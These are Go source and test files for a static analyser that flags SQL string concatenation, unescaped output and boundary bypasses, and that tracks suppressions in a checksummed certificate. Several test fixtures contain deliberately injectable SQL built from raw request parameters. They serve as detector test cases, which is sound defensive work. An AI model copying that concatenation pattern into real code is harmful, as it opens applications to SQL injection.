						p.consts[n.Name] = true
					}
				}
			}
		}
	}
}

// collectSuppressions parses //resin:vet-allow comments in every file.
func (p *pkg) collectSuppressions() {
	p.sups = make([][]*suppression, len(p.files))
	for i, f := range p.files {
		for _, cg := range f.Comments {
			for _, c := range cg.List {
				text := strings.TrimPrefix(c.Text, "//")
				text = strings.TrimSpace(text)
				if !strings.HasPrefix(text, AllowMarker) {
					continue
				}
				rest := strings.TrimSpace(strings.TrimPrefix(text, AllowMarker))
				rule, reason, _ := strings.Cut(rest, " ")
				p.sups[i] = append(p.sups[i], &suppression{
					rule:   rule,
					reason: strings.TrimSpace(reason),
					line:   p.fset.Position(c.Pos()).Line,
				})
			}
		}
	}
}

// suppressionFor finds an unconsumed-or-not suppression covering (file
// index, line, rule): a trailing comment on the same line, or a comment
// on the line immediately above.
func (p *pkg) suppressionFor(fileIdx, line int, rule string) *suppression {
	for _, s := range p.sups[fileIdx] {
		if s.rule == rule && (s.line == line || s.line == line-1) {
			return s
		}
	}
	return nil
}

// unusedSuppressions reports every vet-allow comment no finding
// consumed: a suppression that suppresses nothing is itself drift.
func (p *pkg) unusedSuppressions() []Finding {
	var out []Finding
	for i := range p.files {
		for _, s := range p.sups[i] {
			if s.used {
				continue
			}
			out = append(out, Finding{
				Rule:   RuleUnusedAllow,
				File:   p.fileRel[i],
				Line:   s.line,
				Detail: fmt.Sprintf("vet-allow comment for rule %q matches no finding", s.rule),
			})
		}
	}
	for i := range out {
		out[i].ID = findingID(out[i].Rule, out[i].File, out[i].Line)
	}
	return out
}

func findingID(rule, file string, line int) string {
	return fmt.Sprintf("%s/%s:%d", rule, file, line)
}

// report files a finding, resolving suppression state.
func (p *pkg) report(fileIdx int, pos token.Pos, rule, detail string) Finding {
	line := p.fset.Position(pos).Line
	f := Finding{
		ID:     findingID(rule, p.fileRel[fileIdx], line),
		Rule:   rule,
		File:   p.fileRel[fileIdx],
		Line:   line,
		Detail: detail,
	}
	if s := p.suppressionFor(fileIdx, line, rule); s != nil {
		s.used = true
		f.Suppressed = true
		f.Reason = s.reason
	}
	return f
}
