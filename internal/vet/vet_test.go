package vet

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// writeTree lays out a synthetic repo root: internal/apps/demo with the
// given file contents.
func writeTree(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range files {
		p := filepath.Join(root, "internal", "apps", "demo", name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func scanDemo(t *testing.T, files map[string]string) []Finding {
	t.Helper()
	fs, err := ScanApps(writeTree(t, files))
	if err != nil {
		t.Fatal(err)
	}
	return fs
}

func one(t *testing.T, fs []Finding, rule string) Finding {
	t.Helper()
	if len(fs) != 1 || fs[0].Rule != rule {
		t.Fatalf("findings = %+v, want exactly one %s", fs, rule)
	}
	return fs[0]
}

const demoHeader = `package demo

import (
	"resin/internal/core"
	"resin/internal/httpd"
	"resin/internal/sqldb"
)

type App struct {
	DB     *sqldb.DB
	Server *httpd.Server
	sel    *sqldb.Stmt
}
`

func TestSQLConcatFlagsNonConstantText(t *testing.T) {
	fs := scanDemo(t, map[string]string{"app.go": demoHeader + `
func (a *App) search(req *httpd.Request) {
	a.DB.QueryRaw("SELECT * FROM t WHERE name = '" + req.ParamRaw("name") + "'")
}
`})
	f := one(t, fs, RuleSQLConcat)
	if f.Line != 16 || f.Suppressed {
		t.Fatalf("finding = %+v", f)
	}
}

func TestSQLConcatFlagsTrackedDynamicText(t *testing.T) {
	// The checked text path (tracked core.String) is runtime-guarded but
	// still a static finding when the text is not provably constant.
	fs := scanDemo(t, map[string]string{"app.go": demoHeader + `
func (a *App) search(req *httpd.Request) {
	q := core.Concat(core.NewString("SELECT * FROM t WHERE name = '"), req.Param("name"), core.NewString("'"))
	a.DB.Query(q)
}
`})
	one(t, fs, RuleSQLConcat)
}

func TestSQLConstantAndPreparedPass(t *testing.T) {
	fs := scanDemo(t, map[string]string{"app.go": demoHeader + `
const listQuery = "SELECT * FROM t ORDER BY id"

func (a *App) init() {
	a.DB.MustExec("CREATE TABLE t (id INT, name TEXT)")
	a.sel = a.DB.MustPrepare("SELECT * FROM t WHERE id = ?")
}

func (a *App) read(req *httpd.Request) {
	a.sel.Query(req.Param("id"))
	a.DB.QueryRaw(listQuery)
	a.DB.Query(core.NewString("SELECT * FROM t WHERE id = ?"), req.Param("id"))
}
`})
	if len(fs) != 0 {
		t.Fatalf("findings = %+v, want none", fs)
	}
}

func TestRawOutputFlagsUnprovenWrites(t *testing.T) {
	fs := scanDemo(t, map[string]string{"app.go": demoHeader + `
func (a *App) hello(req *httpd.Request, resp *httpd.Response) {
	resp.WriteRaw("hello " + req.ParamRaw("user"))
}
`})
	one(t, fs, RuleRawOutput)
}

func TestRawOutputAllowsProvablySafeWrites(t *testing.T) {
	fs := scanDemo(t, map[string]string{"app.go": `package demo

import (
	"strconv"

	"resin/internal/httpd"
	"resin/internal/sanitize"
)

func hello(req *httpd.Request, resp *httpd.Response) {
	resp.WriteRaw("<html><body>")
	resp.WriteRaw("count " + strconv.Itoa(7))
	resp.WriteRaw(sanitize.HTMLEscape(req.Param("user")).Raw())
	resp.Write(req.Param("user"))
}
`})
	if len(fs) != 0 {
		t.Fatalf("findings = %+v, want none", fs)
	}
}

func TestCoreBoundaryFlagsNonBoundaryImportAndSelector(t *testing.T) {
	fs := scanDemo(t, map[string]string{"app.go": `package demo

import (
	"resin/internal/core"
	"resin/internal/lineage"
)

func bypass(ch *core.Channel) {
	lineage.Trace(nil)
	core.NewChannel(core.KindHTTP)
}
`})
	var rules []string
	for _, f := range fs {
		rules = append(rules, f.Rule)
	}
	if len(fs) != 2 || fs[0].Rule != RuleCoreBoundary || fs[1].Rule != RuleCoreBoundary {
		t.Fatalf("rules = %v, want two core-boundary findings", rules)
	}
	if !strings.Contains(fs[0].Detail, "resin/internal/lineage") {
		t.Errorf("import finding detail = %q", fs[0].Detail)
	}
	if !strings.Contains(fs[1].Detail, "core.NewChannel") {
		t.Errorf("selector finding detail = %q", fs[1].Detail)
	}
}

func TestUnresolvedReceiverIsAFindingNotAPass(t *testing.T) {
	fs := scanDemo(t, map[string]string{"app.go": `package demo

func sneak() {
	db := obtain()
	db.QueryRaw("SELECT * FROM t")
}
`})
	one(t, fs, RuleUnresolved)
}

func TestSuppressionCoversAndReports(t *testing.T) {
	fs := scanDemo(t, map[string]string{"app.go": demoHeader + `
func (a *App) search(req *httpd.Request) {
	//resin:vet-allow sql-concat deliberate demo bug
	a.DB.QueryRaw("SELECT * FROM t WHERE name = '" + req.ParamRaw("name") + "'")
}
`})
	f := one(t, fs, RuleSQLConcat)
	if !f.Suppressed || f.Reason != "deliberate demo bug" {
		t.Fatalf("finding = %+v, want suppressed with reason", f)
	}
}

func TestSuppressionWrongRuleDoesNotCover(t *testing.T) {
	fs := scanDemo(t, map[string]string{"app.go": demoHeader + `
func (a *App) search(req *httpd.Request) {
	//resin:vet-allow raw-output wrong rule
	a.DB.QueryRaw("SELECT * FROM t WHERE name = '" + req.ParamRaw("name") + "'")
}
`})
	// The sql-concat finding stays unsuppressed AND the vet-allow
	// comment itself is flagged as unused. Sorted by line, the comment
	// precedes the call.
	if len(fs) != 2 {
		t.Fatalf("findings = %+v, want unused-allow + sql-concat", fs)
	}
	if fs[0].Rule != RuleUnusedAllow {
		t.Fatalf("first = %+v", fs[0])
	}
	if fs[1].Rule != RuleSQLConcat || fs[1].Suppressed {
		t.Fatalf("second = %+v", fs[1])
	}
}

func TestUnusedSuppressionIsAFinding(t *testing.T) {
	fs := scanDemo(t, map[string]string{"app.go": `package demo

//resin:vet-allow sql-concat nothing here anymore
func fine() {}
`})
	one(t, fs, RuleUnusedAllow)
}

func TestFindingIDsAreStableAndSorted(t *testing.T) {
	fs := scanDemo(t, map[string]string{
		"b.go": demoHeader + `
func (a *App) two(req *httpd.Request) {
	a.DB.QueryRaw("SELECT * FROM t WHERE x = '" + req.ParamRaw("x") + "'")
}
`,
		"a.go": `package demo

import "resin/internal/lineage"

var _ = lineage.Trace
`,
	})
	if len(fs) != 2 {
		t.Fatalf("findings = %+v", fs)
	}
	if fs[0].File >= fs[1].File {
		t.Fatalf("not sorted: %s then %s", fs[0].File, fs[1].File)
	}
	want := findingID(fs[1].Rule, fs[1].File, fs[1].Line)
	if fs[1].ID != want {
		t.Fatalf("ID = %q, want %q", fs[1].ID, want)
	}
}

// TestRepoScanIsCleanWithDocumentedSuppressions is the acceptance
// criterion run as a test: scanning the real tree yields zero
// unsuppressed findings, and exactly the admissions app's three
// deliberate evaluation bugs as suppressed sql-concat findings.
func TestRepoScanIsCleanWithDocumentedSuppressions(t *testing.T) {
	fs, err := ScanApps("../..")
	if err != nil {
		t.Fatal(err)
	}
	var suppressed []Finding
	for _, f := range fs {
		if !f.Suppressed {
			t.Errorf("unsuppressed finding in tree: %s: %s", f.ID, f.Detail)
			continue
		}
		suppressed = append(suppressed, f)
	}
	if len(suppressed) != 3 {
		t.Fatalf("suppressed findings = %d, want the 3 admissions evaluation bugs", len(suppressed))
	}
	for _, f := range suppressed {
		if f.Rule != RuleSQLConcat || f.File != "internal/apps/admissions/app.go" {
			t.Errorf("unexpected suppression %s", f.ID)
		}
		if f.Reason == "" {
			t.Errorf("suppression %s has no reason", f.ID)
		}
	}
}
