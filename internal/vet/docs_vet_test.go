package vet

import (
	"os"
	"strings"
	"testing"
)

// vetDocSnippet extracts the Go code block between the named marker
// pair in docs/VET.md §7.
func vetDocSnippet(t *testing.T, begin, end string) string {
	t.Helper()
	data, err := os.ReadFile("../../docs/VET.md")
	if err != nil {
		t.Fatalf("docs/VET.md must exist: %v", err)
	}
	text := string(data)
	i := strings.Index(text, begin)
	j := strings.Index(text, end)
	if i < 0 || j < 0 || j < i {
		t.Fatalf("docs/VET.md lost its %s/%s markers", begin, end)
	}
	block := text[i+len(begin) : j]
	open := strings.Index(block, "```go\n")
	close := strings.LastIndex(block, "```")
	if open < 0 || close <= open {
		t.Fatalf("no fenced go block between %s and %s", begin, end)
	}
	return block[open+len("```go\n") : close]
}

// TestVetDocWorkedExample executes docs/VET.md §7: the before-snippet
// scans to exactly one sql-concat finding, the after-snippet scans
// clean.
func TestVetDocWorkedExample(t *testing.T) {
	before := vetDocSnippet(t, "<!-- vetfix:before -->", "<!-- vetfix:end-before -->")
	after := vetDocSnippet(t, "<!-- vetfix:after -->", "<!-- vetfix:end-after -->")

	fs := scanDemo(t, map[string]string{"app.go": before})
	f := one(t, fs, RuleSQLConcat)
	if f.Suppressed {
		t.Fatalf("before-snippet finding unexpectedly suppressed: %+v", f)
	}
	if f.Line != 12 {
		t.Fatalf("before-snippet finding at line %d; docs/VET.md §7 records the fixed-log ID as line 12", f.Line)
	}

	if fs := scanDemo(t, map[string]string{"app.go": after}); len(fs) != 0 {
		t.Fatalf("after-snippet should scan clean, got %+v", fs)
	}
}
