package vet

import (
	"go/ast"
	"go/token"
)

// The scanner types just enough of the program to tell a prepared
// statement apart from dialect text and a response writer apart from a
// result set. Types are rendered as strings — "sqldb.DB", "sqldb.Stmt",
// "core.String", or a package-local struct name — and flow from three
// places: declared receiver/parameter/field types, := assignments whose
// right-hand side is a call with a known result type, and type
// assertions. Anything else resolves to "" (unknown), and a
// sink-shaped call on an unknown receiver is reported under
// RuleUnresolved rather than silently passed.

// renderType renders a declared type expression: pointers are
// dereferenced ("*sqldb.DB" → "sqldb.DB"), selector types keep their
// package qualifier, and local named types keep their bare name.
func renderType(e ast.Expr) string {
	switch t := e.(type) {
	case *ast.StarExpr:
		return renderType(t.X)
	case *ast.SelectorExpr:
		if id, ok := t.X.(*ast.Ident); ok {
			return id.Name + "." + t.Sel.Name
		}
	case *ast.Ident:
		return t.Name
	}
	return ""
}

// callResultType maps constructor and method calls to their (first)
// result type. The table covers the boundary API the application
// packages are allowed to use; an unlisted call yields "".
func (sc *scope) callResultType(call *ast.CallExpr) string {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return ""
	}
	method := sel.Sel.Name
	// Package-qualified constructors.
	if id, ok := sel.X.(*ast.Ident); ok && sc.typeOf(id) == "" {
		switch id.Name + "." + method {
		case "sqldb.Open", "sqldb.OpenDB":
			return "sqldb.DB"
		case "httpd.NewServer":
			return "httpd.Server"
		case "core.NewString", "core.NewStringPolicy", "core.Format", "core.Concat":
			return "core.String"
		case "vfs.New":
			return "vfs.FS"
		case "vfs.Resolve":
			return "string"
		case "whois.NewClient":
			return "whois.Client"
		case "script.New":
			return "script.Interp"
		case "wire.Dial":
			return "wire.Conn"
		case "strconv.Itoa", "strconv.FormatInt", "strconv.FormatUint", "strconv.Quote",
			"strings.Join", "strings.TrimSpace", "fmt.Sprintf":
			return "string"
		}
		return ""
	}
	// Methods on a typed receiver.
	switch sc.typeOf(sel.X) {
	case "sqldb.DB":
		switch method {
		case "Prepare", "PrepareRaw", "MustPrepare":
			return "sqldb.Stmt"
		case "Begin":
			return "sqldb.Tx"
		case "Query", "QueryRaw", "MustExec":
			return "sqldb.Result"
		}
	case "sqldb.Tx":
		switch method {
		case "Prepare", "PrepareRaw":
			return "sqldb.Stmt"
		case "Query", "QueryRaw", "MustExec":
			return "sqldb.Result"
		}
	case "sqldb.Stmt":
		if method == "Query" {
			return "sqldb.Result"
		}
	case "wire.Conn":
		if method == "Prepare" || method == "PrepareContext" {
			return "wire.Stmt"
		}
	case "httpd.Request":
		switch method {
		case "Param":
			return "core.String"
		case "ParamRaw":
			return "string"
		}
	case "httpd.Response":
		if method == "Channel" {
			return "core.Channel"
		}
	case "core.String":
		switch method {
		case "Raw":
			return "string"
		case "Slice", "WithPolicy", "Replace":
			return "core.String"
		}
	case "core.Builder":
		if method == "String" {
			return "core.String"
		}
	case "whois.Client":
		if method == "Lookup" {
			return "core.String"
		}
	}
	return ""
}

// scope is one function's name→type environment plus the constness
// facts for its locals.
type scope struct {
	pkg  *pkg
	vars map[string]string
	// assigns maps a local name to its defining expressions; a name
	// assigned exactly once is a candidate constant.
	assigns map[string][]ast.Expr
}

// typeOf resolves an expression to a rendered type, or "".
func (sc *scope) typeOf(e ast.Expr) string {
	switch x := e.(type) {
	case *ast.Ident:
		return sc.vars[x.Name]
	case *ast.ParenExpr:
		return sc.typeOf(x.X)
	case *ast.SelectorExpr:
		base := sc.typeOf(x.X)
		if fields, ok := sc.pkg.structs[base]; ok {
			return fields[x.Sel.Name]
		}
		return ""
	case *ast.CallExpr:
		return sc.callResultType(x)
	case *ast.UnaryExpr:
		if x.Op == token.AND {
			return sc.typeOf(x.X)
		}
	case *ast.CompositeLit:
		if x.Type != nil {
			return renderType(x.Type)
		}
	case *ast.TypeAssertExpr:
		if x.Type != nil {
			return renderType(x.Type)
		}
	}
	return ""
}

// newScope builds the environment for one function declaration:
// receiver and parameters enter with their declared types, then a walk
// over the body records := definitions (for type flow) and every
// assignment (for constness).
func (p *pkg) newScope(fn *ast.FuncDecl) *scope {
	sc := &scope{pkg: p, vars: make(map[string]string), assigns: make(map[string][]ast.Expr)}
	if fn.Recv != nil {
		for _, f := range fn.Recv.List {
			t := renderType(f.Type)
			for _, n := range f.Names {
				sc.vars[n.Name] = t
			}
		}
	}
	if fn.Type.Params != nil {
		for _, f := range fn.Type.Params.List {
			t := renderType(f.Type)
			for _, n := range f.Names {
				sc.vars[n.Name] = t
			}
		}
	}
	if fn.Body == nil {
		return sc
	}
	ast.Inspect(fn.Body, func(n ast.Node) bool {
		switch st := n.(type) {
		case *ast.AssignStmt:
			for i, lhs := range st.Lhs {
				id, ok := lhs.(*ast.Ident)
				if !ok || id.Name == "_" {
					continue
				}
				var rhs ast.Expr
				if len(st.Rhs) == len(st.Lhs) {
					rhs = st.Rhs[i]
				} else if len(st.Rhs) == 1 {
					// Multi-value RHS: only the first LHS gets the
					// call/assert result type.
					if i == 0 {
						rhs = st.Rhs[0]
					}
				}
				sc.assigns[id.Name] = append(sc.assigns[id.Name], rhs)
				if st.Tok == token.DEFINE && rhs != nil {
					if t := sc.typeOf(rhs); t != "" && sc.vars[id.Name] == "" {
						sc.vars[id.Name] = t
					}
				}
			}
		case *ast.DeclStmt:
			if gd, ok := st.Decl.(*ast.GenDecl); ok {
				for _, spec := range gd.Specs {
					if vs, ok := spec.(*ast.ValueSpec); ok {
						t := ""
						if vs.Type != nil {
							t = renderType(vs.Type)
						}
						for i, n := range vs.Names {
							if t != "" {
								sc.vars[n.Name] = t
							}
							if gd.Tok == token.CONST && i < len(vs.Values) {
								sc.assigns[n.Name] = append(sc.assigns[n.Name], vs.Values[i])
							}
						}
					}
				}
			}
		case *ast.RangeStmt:
			// Range variables are never constant; record a nil assign
			// so constExpr sees them as multiply-assigned unknowns.
			for _, e := range []ast.Expr{st.Key, st.Value} {
				if id, ok := e.(*ast.Ident); ok && id.Name != "_" {
					sc.assigns[id.Name] = append(sc.assigns[id.Name], nil, nil)
				}
			}
		}
		return true
	})
	return sc
}

// constExpr reports whether e is a provably-constant string expression:
// a string literal, a named constant, a concatenation of such, or one
// of the tracked constructors (core.NewString, core.Concat,
// core.Format) applied to provably-constant arguments. A local
// variable is constant iff it is assigned exactly once from a
// provably-constant expression. depth bounds indirection.
func (sc *scope) constExpr(e ast.Expr, depth int) bool {
	if depth > 8 || e == nil {
		return false
	}
	switch x := e.(type) {
	case *ast.BasicLit:
		return x.Kind == token.STRING
	case *ast.ParenExpr:
		return sc.constExpr(x.X, depth)
	case *ast.BinaryExpr:
		return x.Op == token.ADD && sc.constExpr(x.X, depth+1) && sc.constExpr(x.Y, depth+1)
	case *ast.Ident:
		if sc.pkg.consts[x.Name] {
			return true
		}
		assigns := sc.assigns[x.Name]
		if len(assigns) != 1 {
			return false
		}
		return sc.constExpr(assigns[0], depth+1)
	case *ast.CallExpr:
		sel, ok := x.Fun.(*ast.SelectorExpr)
		if !ok {
			return false
		}
		id, ok := sel.X.(*ast.Ident)
		if !ok || id.Name != "core" || sc.typeOf(id) != "" {
			return false
		}
		switch sel.Sel.Name {
		case "NewString", "Concat", "Format":
			for _, a := range x.Args {
				if !sc.constExpr(a, depth+1) {
					return false
				}
			}
			return true
		}
	}
	return false
}

// displaySafe reports whether e is provably safe to emit through
// Response.WriteRaw: provably-constant text, formatted integers, the
// raw form of a sanitize.HTMLEscape result, or concatenations of
// those. Everything else must flow through Response.Write so the
// channel filter chain can inspect it.
func (sc *scope) displaySafe(e ast.Expr, depth int) bool {
	if depth > 8 || e == nil {
		return false
	}
	if sc.constExpr(e, depth) {
		return true
	}
	switch x := e.(type) {
	case *ast.ParenExpr:
		return sc.displaySafe(x.X, depth)
	case *ast.BinaryExpr:
		return x.Op == token.ADD && sc.displaySafe(x.X, depth+1) && sc.displaySafe(x.Y, depth+1)
	case *ast.Ident:
		assigns := sc.assigns[x.Name]
		if len(assigns) != 1 {
			return false
		}
		return sc.displaySafe(assigns[0], depth+1)
	case *ast.CallExpr:
		sel, ok := x.Fun.(*ast.SelectorExpr)
		if !ok {
			return false
		}
		if id, ok := sel.X.(*ast.Ident); ok && sc.typeOf(id) == "" {
			switch id.Name + "." + sel.Sel.Name {
			case "strconv.Itoa", "strconv.FormatInt", "strconv.FormatUint", "strconv.Quote":
				return true
			}
			return false
		}
		// sanitize.HTMLEscape(...).Raw()
		if sel.Sel.Name == "Raw" {
			if inner, ok := sel.X.(*ast.CallExpr); ok {
				if isel, ok := inner.Fun.(*ast.SelectorExpr); ok {
					if id, ok := isel.X.(*ast.Ident); ok && id.Name == "sanitize" &&
						sc.typeOf(id) == "" && isel.Sel.Name == "HTMLEscape" {
						return true
					}
				}
			}
		}
	}
	return false
}
