package vet

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// suppressedDemo is a tree whose single finding is suppressed, so it
// can be certified.
var suppressedDemo = map[string]string{"app.go": demoHeader + `
func (a *App) search(req *httpd.Request) {
	//resin:vet-allow sql-concat deliberate demo bug
	a.DB.QueryRaw("SELECT * FROM t WHERE name = '" + req.ParamRaw("name") + "'")
}
`}

func TestCertificateRoundTrip(t *testing.T) {
	fs := scanDemo(t, suppressedDemo)
	fixed := []CertEntry{{ID: "raw-output/internal/apps/demo/old.go:9", Rule: RuleRawOutput,
		File: "internal/apps/demo/old.go", Line: 9, Detail: "was fixed"}}
	cert, err := BuildCertificate(fs, fixed)
	if err != nil {
		t.Fatal(err)
	}
	if len(cert.Findings) != 2 {
		t.Fatalf("entries = %+v", cert.Findings)
	}
	path := filepath.Join(t.TempDir(), "cert.json")
	if err := WriteCertificate(path, cert); err != nil {
		t.Fatal(err)
	}
	loaded, err := LoadCertificate(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := CheckCertificate(loaded, fs); err != nil {
		t.Fatalf("clean check failed: %v", err)
	}
}

func TestBuildCertificateRefusesUnsuppressedFindings(t *testing.T) {
	fs := scanDemo(t, map[string]string{"app.go": demoHeader + `
func (a *App) search(req *httpd.Request) {
	a.DB.QueryRaw("SELECT * FROM t WHERE name = '" + req.ParamRaw("name") + "'")
}
`})
	if _, err := BuildCertificate(fs, nil); err == nil {
		t.Fatal("BuildCertificate certified a tree with unsuppressed findings")
	}
}

func TestHandEditedCertificateFailsChecksum(t *testing.T) {
	fs := scanDemo(t, suppressedDemo)
	cert, err := BuildCertificate(fs, nil)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "cert.json")
	if err := WriteCertificate(path, cert); err != nil {
		t.Fatal(err)
	}
	raw, _ := os.ReadFile(path)
	tampered := strings.Replace(string(raw), "deliberate demo bug", "totally fine", 1)
	if tampered == string(raw) {
		t.Fatal("tamper target not found")
	}
	if err := os.WriteFile(path, []byte(tampered), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadCertificate(path); err == nil || !strings.Contains(err.Error(), "checksum") {
		t.Fatalf("tampered certificate loaded: %v", err)
	}
}

func TestCheckCertificateDetectsDrift(t *testing.T) {
	fs := scanDemo(t, suppressedDemo)
	cert, err := BuildCertificate(fs, nil)
	if err != nil {
		t.Fatal(err)
	}

	// New unsuppressed finding.
	withNew := append(append([]Finding(nil), fs...), Finding{
		ID: "raw-output/internal/apps/demo/app.go:99", Rule: RuleRawOutput,
		File: "internal/apps/demo/app.go", Line: 99, Detail: "fresh bypass",
	})
	if err := CheckCertificate(cert, withNew); err == nil || !strings.Contains(err.Error(), "new unsuppressed finding") {
		t.Fatalf("new finding not detected: %v", err)
	}

	// Suppression removed from the source: the certificate entry is stale.
	if err := CheckCertificate(cert, nil); err == nil || !strings.Contains(err.Error(), "stale") {
		t.Fatalf("stale suppression not detected: %v", err)
	}

	// Suppression reason drifted.
	reworded := append([]Finding(nil), fs...)
	reworded[0].Reason = "some other excuse"
	if err := CheckCertificate(cert, reworded); err == nil || !strings.Contains(err.Error(), "drifted") {
		t.Fatalf("reason drift not detected: %v", err)
	}

	// A suppressed finding the certificate never recorded.
	extra := append([]Finding(nil), fs...)
	extra = append(extra, Finding{
		ID: "sql-concat/internal/apps/demo/app.go:55", Rule: RuleSQLConcat,
		File: "internal/apps/demo/app.go", Line: 55, Suppressed: true, Reason: "undocumented",
	})
	if err := CheckCertificate(cert, extra); err == nil || !strings.Contains(err.Error(), "not in the certificate") {
		t.Fatalf("unrecorded suppression not detected: %v", err)
	}
}

func TestLoadFixedLog(t *testing.T) {
	path := filepath.Join(t.TempDir(), "fixed.log")
	content := "# comment\n\nsql-concat/internal/apps/demo/app.go:12\tconcat over name\n"
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	fixed, err := LoadFixedLog(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(fixed) != 1 {
		t.Fatalf("fixed = %+v", fixed)
	}
	e := fixed[0]
	if e.Rule != RuleSQLConcat || e.File != "internal/apps/demo/app.go" || e.Line != 12 ||
		e.Status != "fixed" || e.Detail != "concat over name" {
		t.Fatalf("entry = %+v", e)
	}
	if _, err := LoadFixedLog(filepath.Join(t.TempDir(), "missing.log")); err != nil {
		t.Fatalf("missing log should be empty, not an error: %v", err)
	}
	if err := os.WriteFile(path, []byte("garbage without slash\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadFixedLog(path); err == nil {
		t.Fatal("malformed log line accepted")
	}
}

// TestCommittedCertificateMatchesTree is the CI contract as a Go test:
// the checked-in certificate must verify against a live scan of this
// repository.
func TestCommittedCertificateMatchesTree(t *testing.T) {
	cert, err := LoadCertificate("../../docs/vet-certificate.json")
	if err != nil {
		t.Fatal(err)
	}
	fs, err := ScanApps("../..")
	if err != nil {
		t.Fatal(err)
	}
	if err := CheckCertificate(cert, fs); err != nil {
		t.Fatalf("certificate drift (regenerate with resin-vet -write): %v", err)
	}
}
