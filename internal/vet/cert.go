package vet

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strings"
)

// Certificate is the committed, machine-checkable scan result
// (docs/vet-certificate.json). CI re-checks it against a fresh scan
// instead of trusting the working tree: any new unsuppressed finding,
// stale suppression, changed reason, or hand-edit (checksum mismatch)
// fails the check.
type Certificate struct {
	Version  int         `json:"version"`
	Tool     string      `json:"tool"`
	Findings []CertEntry `json:"findings"`
	// Checksum is the hex SHA-256 of the certificate serialized with
	// this field empty; it makes hand-edits detectable.
	Checksum string `json:"checksum"`
}

// CertEntry is one certificate line: either a currently-suppressed
// finding (must match the live scan exactly) or the record of a fixed
// one (the site no longer scans as a finding; the entry documents the
// fix).
type CertEntry struct {
	ID     string `json:"id"`
	Rule   string `json:"rule"`
	File   string `json:"file"`
	Line   int    `json:"line"`
	Status string `json:"status"` // "fixed" | "suppressed"
	Reason string `json:"reason,omitempty"`
	Detail string `json:"detail,omitempty"`
}

// CertVersion is the current certificate format version.
const CertVersion = 1

// certTool names the generator; a certificate from another tool is
// rejected outright.
const certTool = "resin-vet"

// BuildCertificate assembles a certificate from a scan and the fixed-
// finding records (see LoadFixedLog). It refuses to certify a tree
// with unsuppressed findings: the certificate asserts the tree is
// clean, so drift must be fixed or explicitly suppressed first.
func BuildCertificate(findings []Finding, fixed []CertEntry) (*Certificate, error) {
	cert := &Certificate{Version: CertVersion, Tool: certTool}
	for _, fe := range fixed {
		fe.Status = "fixed"
		cert.Findings = append(cert.Findings, fe)
	}
	for _, f := range findings {
		if !f.Suppressed {
			return nil, fmt.Errorf("vet: unsuppressed finding %s: %s", f.ID, f.Detail)
		}
		cert.Findings = append(cert.Findings, CertEntry{
			ID: f.ID, Rule: f.Rule, File: f.File, Line: f.Line,
			Status: "suppressed", Reason: f.Reason, Detail: f.Detail,
		})
	}
	sort.Slice(cert.Findings, func(i, j int) bool {
		a, b := cert.Findings[i], cert.Findings[j]
		if a.File != b.File {
			return a.File < b.File
		}
		if a.Line != b.Line {
			return a.Line < b.Line
		}
		return a.Rule < b.Rule
	})
	cert.Checksum = cert.computeChecksum()
	return cert, nil
}

func (c *Certificate) computeChecksum() string {
	clone := *c
	clone.Checksum = ""
	raw, err := json.Marshal(&clone)
	if err != nil {
		panic("vet: certificate marshal: " + err.Error())
	}
	sum := sha256.Sum256(raw)
	return hex.EncodeToString(sum[:])
}

// WriteCertificate serializes the certificate to path, one finding per
// line, deterministic for a given tree.
func WriteCertificate(path string, c *Certificate) error {
	raw, err := json.MarshalIndent(c, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(raw, '\n'), 0o644)
}

// LoadCertificate reads and structurally validates a certificate:
// parseable JSON, the expected tool and version, and a checksum that
// matches the content (a hand-edited certificate fails here).
func LoadCertificate(path string) (*Certificate, error) {
	raw, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var c Certificate
	if err := json.Unmarshal(raw, &c); err != nil {
		return nil, fmt.Errorf("vet: certificate %s: %w", path, err)
	}
	if c.Tool != certTool {
		return nil, fmt.Errorf("vet: certificate %s: unknown tool %q", path, c.Tool)
	}
	if c.Version != CertVersion {
		return nil, fmt.Errorf("vet: certificate %s: version %d, want %d", path, c.Version, CertVersion)
	}
	if got := c.computeChecksum(); got != c.Checksum {
		return nil, fmt.Errorf("vet: certificate %s: checksum mismatch (recorded %.12s…, computed %.12s…): certificate was hand-edited; regenerate with -write", path, c.Checksum, got)
	}
	return &c, nil
}

// CheckCertificate verifies a loaded certificate against a fresh scan.
// It fails on: any unsuppressed finding in the scan; a suppressed scan
// finding missing from the certificate; a certificate suppression the
// scan no longer produces (stale); or a suppression whose reason
// changed. Fixed entries are historical records — a regression at a
// fixed site resurfaces as a new unsuppressed finding and fails that
// way.
func CheckCertificate(c *Certificate, findings []Finding) error {
	var problems []string
	certSup := make(map[string]CertEntry)
	for _, e := range c.Findings {
		if e.Status == "suppressed" {
			certSup[e.ID] = e
		}
	}
	seen := make(map[string]bool)
	for _, f := range findings {
		if !f.Suppressed {
			problems = append(problems, fmt.Sprintf("new unsuppressed finding %s: %s", f.ID, f.Detail))
			continue
		}
		seen[f.ID] = true
		e, ok := certSup[f.ID]
		if !ok {
			problems = append(problems, fmt.Sprintf("suppressed finding %s is not in the certificate; regenerate with -write", f.ID))
			continue
		}
		if e.Reason != f.Reason {
			problems = append(problems, fmt.Sprintf("finding %s: suppression reason drifted (certificate %q, source %q)", f.ID, e.Reason, f.Reason))
		}
	}
	for id := range certSup {
		if !seen[id] {
			problems = append(problems, fmt.Sprintf("certificate suppression %s is stale: the scan no longer produces it", id))
		}
	}
	if len(problems) > 0 {
		sort.Strings(problems)
		return fmt.Errorf("vet: certificate drift:\n  %s", strings.Join(problems, "\n  "))
	}
	return nil
}

